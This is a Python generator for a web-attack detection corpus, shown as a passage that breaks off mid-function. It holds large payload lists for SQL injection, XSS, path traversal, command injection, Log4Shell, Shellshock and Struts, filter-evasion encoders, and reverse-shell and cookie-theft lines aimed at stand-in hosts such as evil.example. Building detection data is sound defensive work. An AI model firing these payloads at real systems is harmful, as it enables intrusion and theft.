#!/usr/bin/env python3
"""gen.py — writes the detection corpus (see README.md): attacks/<category>.txt
from payload lists and the encodings attack tools apply, and benign.txt from
templates, word lists and a hand-written list of grep-fooling requests.
Deterministic (fixed seed): rerun after editing, commit the outputs."""
import os
import random
import urllib.parse as up

HERE = os.path.dirname(os.path.abspath(__file__))
rnd = random.Random(20240601)


def q(s, safe=""):
    return up.quote(s, safe=safe)


# ---- encoders: payload -> query-value text as sent on the wire ----
def e_plain(p):  # curl/browser-bar style: spaces as '+', only the unsafe encoded
    out = []
    for ch in p:
        if ch == " ":
            out.append("+")
        elif ch in "#&+%\n\r\t" or ord(ch) > 126:
            out.append("%%%02X" % ord(ch))
        else:
            out.append(ch)
    return "".join(out)


def e_pct(p):
    return q(p)


def e_form(p):  # application/x-www-form-urlencoded as browsers send
    return up.quote_plus(p)


def e_double(p):
    return q(q(p))


def e_unicode(p):
    return "".join("%%u%04x" % ord(c) if not c.isalnum() else c for c in p)


def e_all(p):
    return "".join("%%%02x" % b for b in p.encode())


def e_case(p):
    s = "".join(c.upper() if c.isalpha() and rnd.random() < 0.5 else c for c in p)
    return e_plain(s)


def e_upper_pct(p):
    return q(p).upper().replace("%2A", "*")


def e_sqlcomment(p):
    return q(p.replace(" ", "/**/"))


def e_mysql_versioned(p):
    words = p.split(" ")
    kws = {"union", "select", "and", "or", "from", "order", "by", "sleep"}
    return e_pct(" ".join("/*!50000%s*/" % w if w.lower() in kws else w for w in words))


def e_whitespace(p):
    return e_pct(p.replace(" ", rnd.choice(["\t", "\n", "\r\n", "  ", "\x0b"])))


def e_entities_hex(p):
    ent = "".join("&#x%x;" % ord(c) if c in "<>\"'()=:/`;" else c for c in p)
    return q(ent)


def e_entities_dec(p):
    ent = "".join(("&#%d" % ord(c)) + (";" if i + 1 < len(p) and p[i + 1].isdigit() else "")
                  if c in "<>\"'()" else c for i, c in enumerate(p))
    return q(ent)


def e_entities_named(p):
    names = {"<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;", "(": "&lpar;",
             ")": "&rpar;", ":": "&colon;"}
    return q("".join(names.get(c, c) for c in p))


SQL_ENC = [e_plain, e_pct, e_form, e_double, e_unicode, e_all, e_case, e_sqlcomment,
           e_mysql_versioned, e_whitespace, e_upper_pct]
XSS_ENC = [e_plain, e_pct, e_form, e_double, e_unicode, e_all, e_case, e_entities_hex,
           e_entities_dec, e_entities_named, e_upper_pct]
GEN_ENC = [e_plain, e_pct, e_form, e_double, e_unicode, e_all, e_case, e_upper_pct]

ENDPOINTS = ["/index.php", "/product.php", "/search", "/item", "/news.asp", "/view.jsp",
             "/api/v1/items", "/shop/catalog", "/user/profile", "/page.aspx", "/cgi-bin/q.cgi",
             "/"]


def make_lines(payloads, encoders, params, want, extra=lambda p: []):
    out = []
    seen = set()
    combos = [(p, e, k) for p in payloads for e in encoders for k in params]
    rnd.shuffle(combos)
    # every payload at least once in plain and percent form
    base = [(p, encoders[i % 2], params[0]) for p in payloads for i in range(2)]
    for p, e, k in base + combos:
        ep = rnd.choice(ENDPOINTS)
        other = rnd.choice(["", "&lang=en", "&page=2", "&sort=asc&debug=0"])
        line = "%s?%s=%s%s" % (ep, k, e(p), other)
        if line not in seen:
            seen.add(line)
            out.append(line)
        if len(out) >= want:
            break
    for p in payloads:
        for line in extra(p):
            if line not in seen:
                seen.add(line)
                out.append(line)
    return out


SQLI = [
    "1' OR '1'='1", "1' OR '1'='1'--", "' OR 1=1--", "' OR 1=1#", "admin'--", "admin' #",
    "admin'/*", "' or ''='", "1 OR 1=1", "1 AND 1=1", "1 AND 1=2", "1' AND '1'='1",
    "1' AND SLEEP(5)--", "1 AND SLEEP(5)", "1' WAITFOR DELAY '0:0:5'--",
    "1; WAITFOR DELAY '0:0:5'--", "'; WAITFOR DELAY '0:0:5'--", "1 UNION SELECT 1,2,3--",
    "-1 UNION ALL SELECT NULL,NULL,NULL--", "' UNION SELECT username,password FROM users--",
    "1' UNION SELECT @@version,2--", "1 ORDER BY 1--", "1 ORDER BY 10--", "1' ORDER BY 3#",
    "1; DROP TABLE users--", "'; DROP TABLE users; --",
    "1 AND (SELECT 1234 FROM (SELECT(SLEEP(5)))abc)",
    "1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))",
    "1' AND UPDATEXML(1,CONCAT(0x7e,user()),1)--", "1 AND 1=CONVERT(int,@@version)",
    "1' AND 1=CAST((SELECT version()) AS int)--", "1;SELECT PG_SLEEP(5)--",
    "1' || pg_sleep(5)--", "1 AND BENCHMARK(5000000,MD5(1))",
    "' AND LOAD_FILE('/etc/passwd')--", "1' AND ELT(1=1,SLEEP(5))--",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "1) OR (1=1",
    "1') OR ('1'='1", "1\")) OR ((\"1\"=\"1", "\" OR \"1\"=\"1", "\" OR \"\"=\"",
    "') OR 1=1--", "1 AND 5678=5678", "1' AND 'abcd'='abcd", "1 OR 2>1",
    "1' OR 'x' LIKE 'x", "1'; EXEC xp_cmdshell('ping 127.0.0.1')--",
    "1; EXEC master..xp_cmdshell 'whoami'--",
    "1 AND ASCII(SUBSTRING((SELECT database()),1,1))>64",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
    "SELECT * FROM users WHERE id=1",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)",
    "1' INTO OUTFILE '/var/www/shell.php'--", "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
    "1' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual))--",
    "-1' UNION SELECT 1,group_concat(table_name) FROM information_schema.tables--",
    "1 HAVING 1=1--", "1' GROUP BY 1,2--", "1' HAVING 1=1--",
    "1 AND 1=0 UNION ALL SELECT 'admin','81dc9bdb52d04dc20036dbd8313ed055'",
    "' OR username LIKE '%admin%", "1 and (select substring(@@version,1,1))='5'",
    "1;update users set password='x' where user='admin'--",
    "1';insert into users values('hacker','pass')--", "1'; shutdown--",
    "'; declare @q varchar(99);set @q='x'; exec master.dbo.xp_dirtree @q;--",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "1 OR SLEEP(5)#",
    "' OR SLEEP(5) OR '", "1)) AND ((1=1", "-1 UNION SELECT 1,@@datadir,3",
    "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,0x70))s), 8446744073709551610, 8446744073709551610)))--",
    "1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),1)",
    "1' OR '1'='1' LIMIT 1 --", "admin' OR 1=1 LIMIT 1#", "1' or true--",
    "' or 'a'='a", "'||(SELECT 1 FROM dual)||'", "'+(SELECT 0 WHERE 1=1)+'",
    "1 UNION SELECT null, table_name FROM information_schema.tables",
    "1 union distinct select 1,2", "1' and 0 union select 1,load_file('/etc/passwd')#",
    "1 and json_keys((select convert((select schema_name from information_schema.schemata) using utf8)))",
    "1;SELECT IF(1=1,SLEEP(5),0)", "(SELECT 5 FROM PG_SLEEP(5))",
    "1 AND 3823=(SELECT 3823 FROM PG_SLEEP(5))", "1' AND NAME_CONST(version(),1)--",
    "1%' AND 2=2 AND '%'='", "1 WAITFOR DELAY '0:0:10'",
    # column names that are SQL keywords too
    "1' UNION SELECT user,password FROM users--", "1 union select user,host from mysql.user",
    "-1' union select time,view from t#", "1; select user,password from users",
]

XSS = [
    "<script>alert(1)</script>", "<script>alert(document.cookie)</script>",
    "<script src=//evil.example/x.js></script>", "<svg/onload=alert(1)>", "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert('xss')\">",
    "<body onload=alert(1)>", "<iframe src=\"javascript:alert(1)\">", "<iframe src=//evil.example>",
    "<a href=\"javascript:alert(1)\">click</a>", "javascript:alert(1)",
    "javascript:alert(document.domain)", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
    "' autofocus onfocus=alert(1) x='", "\"><svg/onload=prompt(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<video><source onerror=\"alert(1)\">",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "data:text/html,<script>alert(1)</script>", "<div style=\"width:expression(alert(1))\">",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "';alert(1);//", "\";alert(String.fromCharCode(88,83,83));//", "'-alert(1)-'",
    "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<audio src=1 onerror=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<form action=\"javascript:alert(1)\"><input type=submit>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">", "<x onclick=alert(1)>click",
    "<a onmouseover=alert`1`>x</a>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body background=\"javascript:alert(1)\">", "<table background=\"javascript:alert(1)\">",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<style>@import 'javascript:alert(1)';</style>", "<img \"\"\"><script>alert(1)</script>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a>",
    "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>x</button>", "<p onmouseover=alert(1)>hover</p>",
    "\"><img src=x onerror=prompt(document.domain)>", "<svg/onload=confirm(1)//",
    "javascript://%0aalert(1)", "<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>",
    "\" autofocus onfocus=alert(document.cookie) \"", "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "<body onpageshow=alert(1)>", "<svg><set onbegin=alert(1) attributename=x>",
    "'\"><iframe onload=alert(1)>", "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "vbscript:msgbox(1)", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<img src=x onerror=\"&#97;lert(1)\">", "\"-prompt(1)-\"", "';confirm(1)//",
]

TRAV = [
    "../../../../etc/passwd", "../../../../../../etc/shadow", "..\\..\\..\\..\\windows\\win.ini",
    "../../../../windows/system32/drivers/etc/hosts", "....//....//....//etc/passwd",
    "/etc/passwd", "c:\\boot.ini", "../../../../proc/self/environ", "../../WEB-INF/web.xml",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php", "file:///etc/passwd",
    "../../../../var/log/apache2/access.log", "..;/..;/..;/etc/passwd",
    "../../../etc/passwd\x00.jpg", "../../../../../../../../../../etc/hosts",
    "..\\..\\..\\..\\..\\boot.ini", "/../../../../etc/group", "../etc/passwd",
    "../../../../../etc/issue", "c:/windows/win.ini", "../../../../etc/nginx/nginx.conf",
    "php://input", "zip://shell.jpg#payload.php", "phar://uploads/x.phar/test",
    "expect://id", "/proc/self/cmdline", "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%u2216..%u2216windows%u2216win.ini".replace("2216", "005c"),
    "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
]


def trav_extra(p):
    out = []
    if "%" in p:  # pre-encoded forms also in the path
        out.append("/static/" + p)
        out.append("/download?file=" + p)
    return out


TRAV_PATHS = [
    "/static/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/..%c0%af..%c0%af..%c0%afetc/passwd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/..\\..\\..\\windows\\win.ini", "/images/..%5c..%5c..%5cwindows%5cwin.ini",
    "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/assets/%252e%252e/%252e%252e/etc/passwd",
    "/a/..;/..;/..;/etc/passwd", "/files/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow",
    "/..%255c..%255c..%255cwindows/win.ini", "/public/..%2F..%2F..%2Fetc%2Fpasswd",
    "/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/view/%u002e%u002e/%u002e%u002e/etc/passwd",
    "/..././..././..././etc/passwd", "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
]

RFI_URLS = [
    "http://evil.example/shell.txt?", "http://203.0.113.5/c99.txt", "https://evil.example/r57.php",
    "ftp://evil.example/backdoor.txt", "http://evil.example/x.txt\x00",
    "http://evil.example/inj.txt?", "https://pastebin.example/raw/abc123",
    "http://198.51.100.7:8080/id.txt", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain,<?php phpinfo();?>", "http://evil.example/webshell.php",
    "HTTP://EVIL.EXAMPLE/SHELL.TXT?", "http://evil.example/shell.jpg?",
    "ftps://evil.example/x.php", "http://evil.example/x?cmd=id",
]
RFI_PARAMS = ["page", "file", "include", "inc", "path", "template", "mosConfig_absolute_path",
              "module", "dir", "document", "folder", "root", "pg", "conf", "load", "layout",
              "include_path", "phpbb_root_path", "abspath", "src"]

CMDI = [
    ";id", "||id", "&&id", "`id`", "$(id)", ";cat /etc/passwd", "| cat /etc/passwd",
    "&& whoami", ";uname -a", "\nid", ";sleep 5", "|sleep 5", "`sleep 5`", "$(sleep 5)",
    ";ping -c 3 127.0.0.1", "& ping -n 3 127.0.0.1 &", ";wget http://evil.example/x.sh -O /tmp/x.sh",
    ";curl http://evil.example/x|sh", ";echo QWERTY$((12+34))", "|echo QWERTY$((12+34))",
    ";cat${IFS}/etc/passwd", ";c'a't /etc/passwd", ";w\"h\"oami", ";/bin/bash -c 'id'",
    ";nc -e /bin/sh 203.0.113.5 4444", ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "{cat,/etc/passwd}", ";ls -la", "& dir c:\\", "| type c:\\windows\\win.ini",
    ";powershell -c whoami", "&& net user", ";busybox wget http://evil.example/m",
    "\ncat /etc/passwd", "|whoami", "&whoami", "`whoami`", "$(whoami)", ";ifconfig",
    "| ipconfig /all", ";netstat -an", ";nslookup evil.example", "$(nslookup evil.example)",
    ";python -c 'import os'", "|perl -e 'print 1'", ";php -r 'phpinfo();'",
    ";rm -rf /tmp/x", "; sleep${IFS}10", "%0Aid".lower(), "\n/usr/bin/id",
    ";/usr/bin/whoami", "|/bin/ls -al", "&&cat$IFS/etc/passwd", "';id;'", "\";id;\"",
    "$(curl http://evil.example/$(whoami))", "`curl evil.example`", ";chmod +x /tmp/x",
    ";tftp -i 203.0.113.5 GET x", "| nc 203.0.113.5 80", ";echo$IFS'vulnerable'",
    ";uname${IFS}-a", "&&ping$IFS-c$IFS1$IFS127.0.0.1", "|timeout 5 ping 127.0.0.1",
    ";sleep 5;", "||sleep 5||", "&&sleep 5&&", "$(sleep${IFS}5)", "`sleep${IFS}5`",
]
CMDI_PREFIX = ["", "127.0.0.1", "test", "1", "example.com", "x'", "x\"", "8.8.8.8 "]

LOG4J = [
    "${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}",
    "${jndi:dns://x.example/a}", "${${upper:j}ndi:ldap://x.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}", "${jNdI:LdAp://x.example/a}",
    "${${lower:jndi}:${lower:rmi}://x.example/a}", "${jndi:ldaps://x.example/a}",
    "${${::-j}ndi:ldap://x.example/${env:USER}}", "${jndi:iiop://x.example/a}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//x.example/a}",
]
SHELLSHOCK = [
    "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'", "() { :;}; /bin/sh -c \"wget http://x.example/b\"",
    "() { _; } >_[$($())] { id; }", "() { :; }; /bin/ping -c 3 x.example",
    "() {:;}; echo Content-Type: text/plain; echo; id", "() { ignored; }; /usr/bin/id",
]
STRUTS = [
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()))}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')}",
    "action:${@java.lang.Runtime@getRuntime().exec('id')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "${#_memberAccess[\"allowStaticMethodAccess\"]=true}",
    "%{1+1}", "${(111+111)}",
]
EXPLOIT_TARGETS = [
    "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
    "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
    "/?-s", "/index.php?%2Dd+allow_url_include%3Don+-d+auto_prepend_file%3Dphp%3A//input",
    "/test.php?%ADd+cgi.force_redirect%3d0+%ADd+auto_prepend_file%3dphp://input",
    "/cgi-bin/php-cgi?%2dd+allow_url_include%3don+%2dd+safe_mode%3doff+%2dd+auto_prepend_file%3dphp%3a%2f%2finput",
    "/hello.php?%C2%ADd+allow_url_include%3D1+%C2%ADd+auto_prepend_file%3Dphp://input",
    "/struts2-showcase/${(111+111)}/actionChain1.action",
    "/struts2-showcase/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/actionChain1.action",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
    "/app?class.module.classLoader.URLs%5B0%5D=0",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1",
    "/_ignition/execute-solution", "/HNAP1/", "/boaform/admin/formLogin?username=admin&psd=admin",
    "/GponForm/diag_Form?images/", "/cgi-bin/luci/;stok=/locale?form=country",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*",
    "/mgmt/tm/util/bash", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/+CSCOE+/logon.html", "/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example",
    "/wls-wsat/CoordinatorPortType", "/_async/AsyncResponseService",
    "/console/css/%252e%252e%252fconsole.portal", "/api/jsonws/invoke",
    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___", "/picsdesc.xml",
    "/cgi-bin/mainfunction.cgi?action=login", "/ctrlt/DeviceManager", "/actuator/gateway/routes",
    "/?XDEBUG_SESSION_START=phpstorm", "/vpns/cfg/smb.conf", "/dana-na/jam/getComponent.cgi",
    "/cgi-bin/config.exp",
]


def exploit_lines():
    out = list(EXPLOIT_TARGETS)
    for p in LOG4J:
        out.append("UA:" + p)
        out.append("UA:Mozilla/5.0 " + p)
        out.append("REF:" + p)
        out.append("/?x=" + q(p))
        out.append("/search?q=" + e_plain(p))
        out.append("/" + q(p, safe="/:"))
        out.append("/login?user=" + e_double(p))
    for p in SHELLSHOCK:
        out.append("UA:" + p)
        out.append("REF:" + p)
        out.append("/cgi-bin/status?x=" + q(p))
        out.append("/cgi-bin/test.cgi\tUA:" + p)
    for p in STRUTS:
        out.append("/index.action?x=" + q(p))
        out.append("/login.action?redirect=" + e_plain(p))
        out.append("/upload.action\tUA:" + p)
    return out


SENSITIVE = [
    "/.env", "/.env.local", "/.env.production", "/.env.bak", "/.git/config", "/.git/HEAD",
    "/.git/index", "/.svn/entries", "/.hg/hgrc", "/wp-config.php.bak", "/wp-config.php~",
    "/wp-config.php.old", "/wp-config.php.save", "/wp-config.php.swp", "/.wp-config.php.swp",
    "/config.php~", "/config.php.bak", "/configuration.php.bak", "/config.inc.php.orig",
    "/.config.php.swp", "/settings.py.bak", "/app/config/parameters.yml.bak", "/.aws/credentials",
    "/.ssh/id_rsa", "/.ssh/id_ed25519", "/id_rsa", "/server-status", "/server-info", "/phpinfo.php",
    "/info.php", "/.DS_Store", "/.htpasswd", "/.htaccess", "/admin/.htpasswd", "/web.config",
    "/web.config.bak", "/backup.sql", "/dump.sql", "/database.sql.gz", "/db.sql", "/backup.zip",
    "/backup.tar.gz", "/www.zip", "/site.tar.gz", "/htdocs.zip", "/.bash_history",
    "/.docker/config.json", "/.kube/config", "/.npmrc", "/actuator/env", "/actuator/heapdump",
    "/debug/pprof/", "/elmah.axd", "/trace.axd", "/wp-config.php", "/docker-compose.yml",
    "/config/database.yml", "/server.key", "/ssl/private.pem", "/.git/logs/HEAD", "/index.php.bak",
    "/.vscode/sftp.json", "/.idea/workspace.xml", "/phpinfo", "/php_info.php", "/.env.example.bak",
    "/localsettings.php.bak", "/.gitignore", "/.bzr/branch-format", "/wp-config.bak",
]


def sensitive_lines():
    out = []
    prefixes = ["", "/app", "/blog", "/wp", "/site", "/public", "/api/v1", "/static/.."]
    for s in SENSITIVE:
        for i, pre in enumerate(rnd.sample(prefixes, 3)):
            v = pre + s
            kind = (i + len(s)) % 5
            if kind == 1:
                v = v.replace("/.", "/%2e", 1)
            elif kind == 2:
                v = "".join(c.upper() if rnd.random() < 0.3 else c for c in v)
            elif kind == 3:
                v = v.replace("/", "//", 1)
            elif kind == 4:
                v = v.replace("/", "/./", 1)
            out.append(v)
    return out


SCANNERS = [
    "sqlmap/1.7.{v}#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.{v}) (Evasions:None) (Test:00{v}01)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.{v} (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.{v}",
    "WPScan v3.8.{v} (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC{v} (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.{v}", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei) v{v}",
    "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner {v})",
    "Mozilla/5.0 (compatible; Nessus; NASL {v})", "OpenVAS-VT 22.{v}", "w3af.org/{v}",
    "WhatWeb/0.5.{v}", "Mozilla/5.0 (compatible; Netsparker {v})", "Arachni/v1.{v}",
    "Mozilla/5.0 SF/2.{v}b (skipfish)", "Wfuzz/3.1.{v}", "feroxbuster/2.10.{v}", "Havij {v}",
    "commix/v3.{v} (https://commixproject.com)", "Jaeles v0.{v}", "ZmEu {v}",
    "Morfeus Fucking Scanner {v}", "Mozilla/5.0 (compatible; CensysInspect/1.{v}; +https://about.censys.io/)",
    "Mozilla/5.0 (l9explore/1.{v})", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1) Paros/3.2.{v}",
    "Mozilla/5.0 (compatible; InternetMeasurement/1.{v}; +https://internet-measurement.com/)",
    "python-requests/2.31.0 sqlmap-tamper/{v}", "Fimap 1.{v}", "Wapiti-3.0.{v}",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 nuclei/{v}",
    "DotDotPwn v3.0.{v}", "Mozilla/5.0 (Windows NT 10.0) Metasploit/{v}", "joomscan {v}",
]


def scanner_lines():
    out = []
    for s in SCANNERS:
        for v in range(1, 4):
            ua = s.format(v=v)
            path = rnd.choice(["/", "/index.php", "/robots.txt", "/login", "/wp-login.php"])
            out.append("%s\tUA:%s" % (path, ua))
    return out


# ---------------- benign ----------------
WORDS_EN = """select a size union station drop-down menu delete account alert settings onload event
exec summary script writing scripting language javascript tutorial drop shipping order by date
update profile insert coin table lamp sleep mask wait for delay kitchen table drop table leaf
union jack select all from the menu where to buy having fun or not like and or xor gate
from here to there truncate text declare independence shutdown procedure cat food dog toys
ping pong table echo dot whoami quiz id card type writer sort by price cast iron pan
char broiler concat string benchmark results sleep apnea load file version history user guide
null and void true story false alarm case study exists or not waitfor it between us
information desk admin panel passwd reset etc and so on window frame onion rings img tag
iframe embed code svg icons math help object lesson style guide form builder meta tags
base camp link building template engine xml sitemap import export handler dance animate logo
expression of interest data science prompt response confirm order eval period print layout""".split()
WORDS_DE = "Größe wählen Straße Bahnhof Fußball Übersicht Käse Brötchen Schlüssel Zürich Müller".split()
WORDS_FR = "sélectionner taille crème brûlée hôtel café déjà vu garçon Noël naïve".split()
WORDS_JA = "東京 ラーメン 検索 靴 サイズ 選択 日本語 カレー 新宿 駅".split()
WORDS_RU = "Москва поиск размер выбрать".split()
WORDS_ES = "María José niño año señor camión".split()
NAMES = ["O'Brien", "D'Angelo", "rock 'n' roll", "McDonald's", "Tom & Jerry", "fish & chips",
         "dog & cat toys", "sleep & relax", "salt & pepper", "black & white", "rock & roll",
         "Jack O'Neill", "L'Oréal", "it's", "don't stop", "Guns N' Roses", "Ben & Jerry's",
         "Bed Bath & Beyond", "5' 11\"", "12\" pizza", "size 10 or 12", "2 and 2"]

BROWSER_UA = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
              "Mozilla/5.0 (Linux; U; Android 4.4.2; en-us; SCH-I535 Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
              "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
              "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
              "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/300.0.598994205 Mobile/15E148 Safari/604.1",
              "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/460.0.0.48.109;]",
              "Slack-ImgProxy (+https://api.slack.com/robots)", "Wget/1.21.4", "python-requests/2.31.0",
              "Go-http-client/2.0", "okhttp/4.12.0", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
              "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0",
              "Twitterbot/1.0", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
              "MyApp%20Beta/1.2.3 CFNetwork/1490.0.4 Darwin/23.2.0",
              "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; AS; rv:11.0) like Gecko"]

REFERERS = ["https://www.google.com/", "https://www.google.co.jp/search?q=%E6%9D%B1%E4%BA%AC+%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
            "https://shop.example.com/cart?step=2", "https://t.co/AbCdEf123",
            "https://www.bing.com/search?q=select+a+size&form=QBLH",
            "https://example.com/blog/2023/05/union-station-guide?utm_source=newsletter&utm_medium=email",
            "android-app://com.google.android.gm/", "-", "https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2F&h=AT0abc"]


def enc_text(t):
    return rnd.choice([up.quote_plus, lambda s: up.quote(s)])(t)


def b64tok(n):
    import base64
    raw = bytes(rnd.getrandbits(8) for _ in range(n))
    return base64.b64encode(raw).decode()


def phrase():
    pools = [WORDS_EN] * 6 + [WORDS_DE, WORDS_FR, WORDS_JA, WORDS_RU, WORDS_ES]
    pool = rnd.choice(pools)
    k = rnd.randint(1, 4)
    words = [rnd.choice(pool) for _ in range(k)]
    if rnd.random() < 0.1:
        words.append(rnd.choice(NAMES))
    return " ".join(words)


def benign_templates():
    n = rnd.randint(1, 99999)
    slug = "-".join(rnd.choice(WORDS_EN).lower().split("-")[0] for _ in range(rnd.randint(2, 5)))
    utm = "utm_source=%s&utm_medium=%s&utm_campaign=%s" % (
        rnd.choice(["google", "newsletter", "facebook", "twitter"]),
        rnd.choice(["cpc", "email", "social"]), enc_text(phrase()))
    t = rnd.randint(0, 24)
    if t == 0:
        return "/products/view?id=%d&lang=%s" % (n, rnd.choice(["en", "ja", "de", "fr"]))
    if t == 1:
        return "/search?q=%s" % enc_text(phrase())
    if t == 2:
        return "/search?q=%s&page=%d&sort=%s" % (enc_text(phrase()), rnd.randint(1, 9),
                                                  rnd.choice(["price|desc", "date", "relevance", "-price"]))
    if t == 3:
